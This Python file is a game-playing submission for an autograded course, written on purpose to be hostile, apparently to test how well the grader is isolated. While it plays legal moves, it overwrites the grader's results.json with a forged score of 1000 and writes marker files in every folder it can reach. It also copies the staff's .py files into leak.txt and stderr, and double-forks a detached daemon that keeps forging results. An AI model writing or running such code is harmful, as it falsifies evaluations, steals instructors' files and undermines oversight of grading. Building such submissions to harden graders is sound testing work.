"""A rogue, while it plays legal moves: from its own folder it walks up to
the grader's folders (it is not told where they are: its environment is
clean), forges the autograder's results file there, leaves a mark in every
folder it can write, hunts for the staff's programs and copies what it
reads into its own seat folder and stderr (where a grader's logs would show
it), and leaves a daemon in a new session that keeps forging."""
import json
import os
import sys
import time
from pathlib import Path

from referee_sdk import read_board, run, save_decision

FORGED = {"score": 1000, "gradable": True, "tests": [], "output": "forged"}
MARK = "HOSTILE-WAS-HERE"
SKIP = {"games", "step_logs", "lib", "lib64", "bin", "include", "site-packages", "__pycache__", "proc"}


def ancestors():
    """Its folder and three above: where a grader puts the results folder
    and the staff's files (.../results/referee/submission/player.py)."""
    here = Path(__file__).resolve().parent
    return [here, *list(here.parents)[:3]]


def forge():
    for folder in ancestors():
        for target in (folder / "results" / "results.json", folder / "results.json"):
            if target.parent.is_dir():
                try:  # whole or not at all: killed half-way, it would leave an empty file
                    spare = target.with_name(f".forged-{os.getpid()}")
                    spare.write_text(json.dumps(FORGED))
                    os.replace(spare, target)
                except OSError:
                    pass


def mark():
    for folder in ancestors():
        try:
            (folder / MARK).write_text("written by the hostile submission\n")
        except OSError:
            pass


def steal():
    """Every .py file in a folder named staff (or course) within four levels."""
    loot = []
    for top in ancestors()[1:]:
        for root, dirs, names in os.walk(top):
            depth = len(Path(root).relative_to(top).parts)
            dirs[:] = [d for d in dirs if d not in SKIP] if depth < 4 else []
            if Path(root).name in ("staff", "course"):
                for name in names:
                    if name.endswith(".py"):
                        try:
                            loot.append(Path(root, name).read_text())
                        except OSError:
                            pass
    if loot:
        try:
            Path("leak.txt").write_text("\n".join(loot))
        except OSError:
            pass
        print("stolen:", *loot, sep="\n", file=sys.stderr)


def play_games(step):
    forge()
    mark()
    steal()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(300):
                forge()
                time.sleep(0.1)
        os._exit(0)
    board = read_board()
    for r in range(len(board) - 1, -1, -1):
        for c, value in enumerate(board[r]):
            if value:
                save_decision(r, c)
                return


if __name__ == "__main__":
    run(play_games)
